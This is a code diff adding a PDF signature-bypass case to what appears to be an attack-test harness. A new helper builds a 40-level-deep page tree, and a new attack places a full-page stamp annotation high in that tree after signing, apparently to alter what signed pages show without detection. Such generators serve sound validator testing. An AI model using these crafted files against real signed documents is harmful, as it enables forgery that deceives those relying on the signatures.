@@ -51,6 +51,27 @@ def _hidden(victims: Victims) -> bytes:
     return append(data, with_list(data, 4, b""))
 
 
+def below(data: bytes, levels: int) -> dict[int, bytes]:
+    """Return the objects that put so many nodes between the root of the page tree and its first page."""
+    nodes = [2, *range(100, 100 + levels), 4]
+    tree = {
+        node: b"<</Type/Pages/Count 1/Parent %d 0 R/Kids[%d 0 R]>>" % (parent, kid)
+        for parent, node, kid in zip(nodes, nodes[1:], nodes[2:], strict=False)
+    }
+    root = raw_object(data, 2).replace(b"4 0 R", b"%d 0 R" % nodes[1], 1)
+    page = re.sub(rb"/Parent \d+ 0 R", b"/Parent %d 0 R" % nodes[-2], raw_object(data, 4))
+    return {**tree, 2: root, 4: page}
+
+
+@attack("annotations of the page tree: far above a page that gains its own", OURS)
+def _far_above(victims: Victims) -> bytes:
+    plain = small_pdf(catalog=FORM)
+    deep = append(plain, below(plain, 40))
+    stamp = b"<</Type/Annot/Subtype/Stamp/F 4/Rect[0 0 595 842]/AP<</N 31 0 R>>>>"
+    data = sealed(victims, append(deep, {**with_list(deep, 2, b"30 0 R"), 30: stamp, 31: LOOK}))
+    return append(data, with_list(data, 4, b""))
+
+
 @attack("annotations of the page tree: a later signature over all pages", OURS)
 def _signature(victims: Victims) -> bytes:
     data = victims.signing.sign(page=1)
